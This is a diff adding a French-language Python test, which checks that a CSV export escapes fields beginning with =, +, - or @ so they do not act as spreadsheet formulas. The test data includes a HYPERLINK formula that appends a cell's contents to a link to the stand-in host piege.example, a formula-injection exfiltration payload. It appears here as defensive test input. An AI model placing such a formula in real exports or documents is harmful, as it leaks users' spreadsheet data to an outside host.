@@ -343,3 +343,19 @@ def test_import_signale_ce_qu_il_ne_peut_pas_reprendre(tmp_path, capsys):
 def test_csv_ne_contient_pas_de_formule():
     assert exports._sans_formule("=HYPERLINK(\"https://exemple.fr\")") == "'=HYPERLINK(\"https://exemple.fr\")"
     assert exports._sans_formule("Une aide") == "Une aide"
+
+
+def test_format_national_sans_formule(catalogue):
+    """Un titre, un nom officiel ou une description qui commencent par = + - @ ne deviennent pas des formules."""
+    import dataclasses
+
+    premiere = sorted(catalogue.aides)[0]
+    piege = catalogue.aides[premiere].model_copy(update={
+        "nom_officiel": '=HYPERLINK("https://piege.example/?d="&A2,"Mettre à jour")', "sigle": None,
+        "description": "@SOMME(A1:A9)", "titre": "+33 appelez-nous",
+    })
+    petit = dataclasses.replace(catalogue, aides={premiere: piege})
+    ligne = next(csv.DictReader(io.StringIO(exports.texte_national(petit, DATE_TESTS))))
+    assert ligne["titre"] == "'=HYPERLINK(\"https://piege.example/?d=\"&A2,\"Mettre à jour\")"
+    assert ligne["promesse"] == "'+33 appelez-nous"
+    assert not ligne["description"].startswith(("=", "+", "-", "@"))
